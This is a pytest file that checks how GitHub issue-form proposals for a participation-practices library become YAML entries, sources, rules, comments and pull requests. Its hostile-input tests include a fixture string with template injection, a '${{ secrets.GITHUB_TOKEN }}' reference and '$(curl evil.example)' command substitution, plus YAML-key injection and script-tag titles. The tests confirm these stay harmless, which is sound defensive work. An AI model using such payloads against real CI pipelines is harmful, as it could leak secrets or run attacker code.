"""A proposal made with an issue form becomes entry files (model/proposal/): the issue's text as GitHub writes it
(tests/fixtures/contributing/issues/), the YAML made from it by a serializer, the normal validator, and the comment
in plain words. On the small fixture library, with a questionnaire (tests/fixtures/library, .../assessment)."""
from __future__ import annotations

import re
import shutil
import unicodedata
from pathlib import Path

import pytest
import yaml

from model import load_assessment, load_library
from model import forms
from model import proposal as proposals
from model.problems import Problem, Problems
from model.yaml_source import read_yaml

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures"
ISSUES = FIXTURES / "contributing" / "issues"
CHILDCARE = "practices/practices/offer-childcare-and-travel-costs-so-that-parents-and-carers-can-take-part.yml"


@pytest.fixture
def root(tmp_path) -> Path:
    """The fixture library and questionnaire, with the real schemas."""
    root = tmp_path / "root"
    shutil.copytree(FIXTURES / "library" / "valid", root)
    shutil.copytree(ROOT / "schema", root / "schema")
    shutil.copytree(FIXTURES / "assessment" / "valid", root / "assessment")
    return root


def issue(name: str, number: int = 7, author: str = "jane-doe") -> proposals.Issue:
    return proposals.Issue(number, "Practice: from the form", (ISSUES / f"{name}.md").read_text(encoding="utf-8"), author, 1234,
                           "2026-11-30", f"https://github.com/o/r/issues/{number}")


def submit(root: Path, name: str) -> tuple[proposals.Proposal, list[Problem]]:
    """Convert the fixture issue, write its files, and validate the library as `make validate` does."""
    proposal = proposals.convert(root, issue(name))
    proposals.write(root, proposal)
    lib = load_library(root)
    return proposal, sorted(lib.problems + load_assessment(root, lib).problems)


def labels(root: Path, kind: str) -> list[str]:
    lib = load_library(root)
    return [f.label for f in forms.fields(lib, lib.kinds[kind], forms.effort_levels(root))]


def outside_code(markdown: str) -> str:
    """The text of a comment outside its code spans, where Markdown would be rendered."""
    return re.sub(r"`[^`\n]*`", "", markdown)


# --- Reading GitHub's issue-form text ---

def test_the_answers_are_read_by_label_with_empty_answers_and_tick_boxes(root):
    text = (ISSUES / "own-experience.md").read_text(encoding="utf-8")
    answers = proposals.parse_form(text, labels(root, "practice") + ["Not in the form"])
    assert answers["Title of the practice"] == "Offer childcare and travel costs so that parents and carers can take part"
    assert answers["Where in the source"] is None  # "_No response_"
    assert answers["Not in the form"] is None
    assert proposals.ticked(answers["Who acts"]) == ["Commissioners (commissioners)", "Recruiters (recruiters)"]
    assert proposals.ticked("- [ ] No\n- [x] Yes\n* [X] Also") == ["Yes", "Also"]


def test_a_heading_written_inside_an_answer_stays_in_that_answer(root):
    answers = proposals.parse_form((ISSUES / "hostile.md").read_text(encoding="utf-8"), labels(root, "practice"))
    assert answers["Summary"].startswith('Fine summary"\nkind: challenge')
    assert answers["The practice in full"].endswith("### Summary\n\nNot the summary: this line belongs to the body.")
    assert answers["A first step"] == "{{ config }} ${{ secrets.GITHUB_TOKEN }} $(curl evil.example)"
    windows = "### Summary\r\n\r\nOne.\r\n\r\n### Stages\r\n\r\n_No response_\r\n"
    assert proposals.parse_form(windows, ["Summary", "Stages"]) == {"Summary": "One.", "Stages": None}


# --- Valid proposals: the entry, its source and its rule ---

def test_own_experience_becomes_an_entry_a_source_of_its_own_and_a_rule(root):
    proposal, problems = submit(root, "own-experience")
    assert [str(p) for p in problems] == []
    assert proposal.entry == {
        "id": "offer-childcare-and-travel-costs-so-that-parents-and-carers-can-take-part", "kind": "practice",
        "title": "Offer childcare and travel costs so that parents and carers can take part",
        "summary": "Paying for childcare, care cover and travel in advance lets parents and carers accept a place they would otherwise turn down.",
        "stages": ["recruitment"], "roles": ["commissioners", "recruiters"], "themes": ["trust"],
        "addresses": ["invitations-miss-people"],
        "body": "Say in the invitation itself that childcare, care cover and travel are paid for, and that the money comes before "
                "the session, not weeks after it.\n\nParents and carers often decline because they cannot pay up front. Ask each "
                "person what they need rather than offering one fixed sum.\n",
        "first_step": "Add one sentence about childcare and travel costs to the next invitation letter.",
        "effort": "medium", "sources": [{"source": "experience-jane-doe"}]}
    text = (root / CHILDCARE).read_text(encoding="utf-8")
    assert text.startswith("# yaml-language-server: $schema=../../build/schema/practice.schema.json\n# Made from issue #7")
    assert "body: |\n  Say in the invitation" in text and "stages: [recruitment]" in text
    sources = yaml.safe_load((root / "practices" / "sources.yml").read_text(encoding="utf-8"))["sources"]
    assert sources[-1] == {"id": "experience-jane-doe", "title": "Practice experience of jane-doe",
                           "credit": "jane-doe, from their own practice", "date": "2026-11-30",
                           "description": "Recruiting for four citizens' assemblies in the north of England, as the "
                                          "recruitment lead. Shared in issue #7."}
    section = yaml.safe_load((root / "assessment" / "sections" / "recruitment.yml").read_text(encoding="utf-8"))
    assert [r for r in section["questions"][0]["recommends"] if r.get("practice") == proposal.entry_id], "the rule is added"
    comment = proposals.format_comment(proposal, problems, root, "success", "https://github.com/o/r/pull/8")
    assert "Your answers make a valid practice, and every check of the site passes with it" in comment
    assert comment.rstrip().splitlines()[-1].startswith("You can follow the review there")
    assert "https://github.com/o/r/pull/8" in comment


def test_a_second_proposal_from_the_same_person_credits_the_same_source(root):
    submit(root, "own-experience")
    again = proposals.convert(root, issue("long-unicode", number=9))
    assert again.source is None and again.entry["sources"] == [{"source": "experience-jane-doe"}]


def test_a_source_in_the_library_and_a_question_named_by_its_id(root):
    proposal, problems = submit(root, "existing-source")
    assert [str(p) for p in problems] == []
    entry = proposal.entry
    assert (entry["kind"], entry["carried_out_by"], entry["sources"], entry["tentative"]) == (
        "priority-action", ["test-the-question-early"], [{"source": "workshops", "section": "Priority actions"}], True)
    assert "stages" not in entry and "effort" not in entry  # every stage; "Not sure"
    assert proposal.source is None and "practices/sources.yml" not in proposal.files
    assert proposal.question == "org-reflect"


def test_a_publication_becomes_a_source_with_its_credit_date_and_address(root):
    proposal, problems = submit(root, "publication")
    assert [str(p) for p in problems] == []
    assert proposal.entry["stages"] == ["recruitment", "commissioning"]
    assert proposal.entry["addresses"] == ["invitations-miss-people"]  # named by the address of its page
    assert proposal.source == {
        "id": "paying-participants-in-deliberative-processes", "title": "Paying participants in deliberative processes",
        "credit": "The Example Foundation", "date": "2023-05-02",
        "description": "Proposed as the source of issue #7: Paying participants in deliberative processes The Example "
                       "Foundation Published 2023-05-02 at https://example.org/paying-participants.",
        "url": "https://example.org/paying-participants"}


# --- Hostile, long and wrong answers ---

def test_hostile_text_stays_text_in_the_yaml_and_is_harmless_in_the_comment(root):
    proposal, problems = submit(root, "hostile")
    problems_ = Problems()
    doc = read_yaml(root / proposal.entry_path, proposal.entry_path, problems_)
    assert list(problems_) == [] and doc.data == proposal.entry  # what was serialised is what is read
    assert doc.data["kind"] == "practice" and doc.data["id"] == "script-alert-title-script-invite-by-letter"
    assert set(doc.data) == {"id", "kind", "title", "summary", "stages", "roles", "themes", "addresses", "body",
                             "first_step", "effort", "sources"}
    assert doc.data["summary"] == 'Fine summary" kind: challenge id: evil-entry summary: Replaced.'
    assert "\nkind: challenge\nid: evil-entry\n---\n" in doc.data["body"]
    assert "\t" not in doc.data["body"]
    assert not (root / "practices" / "challenges" / "evil-entry.yml").exists()
    assert [p.line for p in problems if p.path == proposal.entry_path] and all(
        p.path == proposal.entry_path for p in problems)

    comment = proposals.format_comment(proposal, problems, root)
    rendered = outside_code(comment)
    assert "<" not in rendered.replace("\\<", "") and "](" not in rendered and "![" not in rendered
    assert not re.search(r"(?<!\\)@(?!\u200b)\w", rendered.replace("@jane-doe", "")), "nobody is pinged"
    assert "https://" not in rendered
    for label in ("**Title of the practice**", "**Stages**", "**Who acts**", "**Challenges this practice addresses**",
                  "**About the source**"):
        assert label in comment
    assert "- Unknown role `mayors`. Valid values: `commissioners`, `recruiters`." in comment


def test_long_and_unicode_answers_are_kept_whole_and_too_long_ones_reported_on_their_field(root):
    proposal, problems = submit(root, "long-unicode")
    body = proposal.entry["body"]
    assert "ofrecer guardería 👶🏽 y transporte" in body and "Ελληνικά, русский, العربية, עברית, 中文, हिन्दी" in body
    assert unicodedata.normalize("NFC", "e\u0301") in body and "\u202e" not in body and "\u200b" not in body
    assert "No-break\u00a0space" in body
    assert body.count("A long paragraph.") == 2000
    comment = proposals.format_comment(proposal, problems, root)
    assert "**Title of the practice**\n- It is too long (219 characters): keep it under 120." in comment
    assert "**Summary**\n- It must be one sentence ending with a full stop (or a question mark)." in comment


def test_wrong_answers_get_one_plain_message_under_each_field(root):
    proposal, problems = submit(root, "mistakes")
    comment = proposals.format_comment(proposal, problems, root, run_url="https://github.com/o/r/actions/runs/5")
    expected = (ISSUES / "mistakes.comment.md").read_text(encoding="utf-8")
    assert comment == expected, "the comment changed: if on purpose, update tests/fixtures/contributing/issues/mistakes.comment.md"


def test_an_issue_not_made_with_a_form_or_a_title_already_used_writes_nothing(root):
    before = sorted(p.relative_to(root).as_posix() for p in root.rglob("*"))
    plain = proposals.convert(root, issue("not-a-form"))
    assert plain.blocked and proposals.write(root, plain) == []
    assert "was not made with one of the proposal forms" in proposals.format_comment(plain, [], root)
    text = (ISSUES / "own-experience.md").read_text(encoding="utf-8").replace(
        "Offer childcare and travel costs so that parents and carers can take part", "Test the question early")
    taken = proposals.convert(root, proposals.Issue(8, "x", text, "jane-doe", 1, "2026-11-30"))
    assert taken.blocked and proposals.write(root, taken) == []
    assert "already has an entry with this title (“Test the question early”)" in proposals.format_comment(taken, [], root)
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) == before


# --- The serializer, the sources file, the pull request ---

TRICKY = ["a: b", "- item", "# not a comment", "'single'", '"double"', "&anchor", "*alias", "!tag", "%directive", "@at",
          "`tick`", "{a: 1}", "[1, 2]", "null", "true", "yes", "~", "1.0", "0x1F", "2022-01-01", "key: value\nkind: challenge",
          "---\nkind: challenge", "...", " leading space", "trailing space ", "line\n  indented\n\ttab", "\u2028", "é👶🏽"]


@pytest.mark.parametrize("value", TRICKY)
def test_any_text_reads_back_as_the_same_text(root, value):
    kind = load_library(root).kinds["practice"]
    entry = {"id": "x-y", "kind": "practice", "title": value, "body": value, "roles": [value, "recruiters"]}
    text = proposals.dump_entry(kind, entry, 1)
    assert yaml.safe_load(text) == entry


def test_a_new_source_is_added_at_the_end_of_the_file_with_its_comments_kept():
    text = "# yaml-language-server: $schema=../schema/sources.schema.json\n# A comment.\nsources:\n  - id: a\n    title: A source\n"
    new = proposals.add_source(text, {"id": "b", "title": "Colon: and \"quotes\""})
    assert new.startswith(text) and yaml.safe_load(new)["sources"][-1] == {"id": "b", "title": "Colon: and \"quotes\""}
    with pytest.raises(ValueError):
        proposals.add_source("sources:\n  - id: a\nother: 1\n", {"id": "b"})


def test_the_pull_request_credits_the_contributor_and_closes_the_issue(root):
    proposal = proposals.convert(root, issue("own-experience"))
    title, body, commit = proposals.pull_request_text(proposal)
    assert title == "Practice: Offer childcare and travel costs so that parents and carers can take part"
    assert "Proposed by @jane-doe in #7" in body and "Closes #7." in body
    assert commit.endswith("Co-authored-by: jane-doe <1234+jane-doe@users.noreply.github.com>\n")
    odd = proposals.Issue(7, "x", proposal.issue.body, "not a login <x@y>", 5, "2026-11-30")
    title, body, commit = proposals.pull_request_text(proposals.convert(root, odd))
    assert "@" not in body and "Co-authored-by" not in commit
